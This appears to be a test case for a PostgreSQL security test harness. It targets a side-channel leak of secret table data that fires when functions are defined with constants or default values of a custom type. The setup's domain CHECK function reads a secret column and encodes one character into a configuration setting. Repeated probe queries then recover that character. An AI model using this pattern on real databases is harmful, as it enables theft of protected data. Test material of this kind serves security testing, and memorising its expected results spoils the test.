-- Makes functions whose constants are of a type that makes up a parameter by a letter.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION coin(given text) RETURNS boolean LANGUAGE plpgsql AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM public.vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', false);
  RETURN true;
END $$;
CREATE DOMAIN coin_text AS text CHECK (coin(VALUE));
CREATE TYPE coined AS (v coin_text);
-- attack:
-- session: body
CREATE FUNCTION made() RETURNS text LANGUAGE sql AS $$ SELECT ('(x)'::coined).v $$;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: argument
CREATE FUNCTION made(a coined DEFAULT '(x)') RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
